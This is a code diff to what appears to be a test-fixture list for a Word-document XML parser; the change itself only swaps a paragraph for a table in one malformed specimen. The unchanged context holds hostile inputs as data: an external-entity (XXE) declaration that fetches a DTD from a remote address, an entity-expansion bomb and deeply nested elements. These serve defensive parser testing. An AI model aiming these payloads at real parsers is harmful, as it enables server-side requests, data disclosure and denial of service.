@@ -96,7 +96,7 @@ export function documents(): Specimen[] {
     whole("entity-from-net", declared('<!ENTITY % x SYSTEM "http://198.51.100.1/x.dtd">%x;', "a")),
     whole("entity-bomb", declared(`<!ENTITY e0 "十">${laughs}`, "&e9;")),
     whole("unclosed", `<w:document ${WORD}><w:body>${table()}<w:p><w:r><w:t>合计`),
-    whole("wrong-encoding", `<?xml version="1.0" encoding="UTF-16"?><w:document ${WORD}><w:body>${p("a")}</w:body></w:document>`),
+    whole("wrong-encoding", `<?xml version="1.0" encoding="UTF-16"?><w:document ${WORD}><w:body>${table()}</w:body></w:document>`),
     whole("not-a-document", "<html><body>1</body></html>"),
     whole("deep", `<w:document ${WORD}><w:body>${"<w:x>".repeat(100_000)}${"</w:x>".repeat(100_000)}`),
     specimen(
